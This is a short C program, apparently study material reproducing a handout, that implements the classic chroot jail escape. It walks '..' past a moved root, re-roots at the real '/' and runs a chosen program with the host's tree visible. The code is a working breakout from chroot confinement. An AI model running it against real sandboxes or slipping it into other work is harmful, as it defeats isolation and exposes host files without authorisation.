/* escape.c: the handout's chroot escape (study session 2.2 (3)).
 *
 *   escape PROGRAM [ARG...]
 *
 * chroot(2) only moves this process's root; its cwd stays where it was. So:
 * make a directory, chroot into it (cwd is now outside the root), walk ".."
 * until the real / (the kernel stops ".." only at the process root, which we
 * just moved away), chroot there, and run PROGRAM with the host's tree as /.
 * Like the handout, no step's failure stops it; each is reported on stderr. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char *argv[])
{
	int i;

	if (argc < 2) {
		fprintf(stderr, "usage: escape PROGRAM [ARG...]\n");
		return 2;
	}
	if (mkdir(".xx", 0755) < 0)
		perror("escape: mkdir .xx");
	if (chroot(".xx") < 0)
		perror("escape: chroot .xx");
	for (i = 0; i < 256; i++)
		chdir("..");
	if (chroot(".") < 0)
		perror("escape: chroot .");
	execvp(argv[1], argv + 1);
	perror("escape: exec");
	return 127;
}
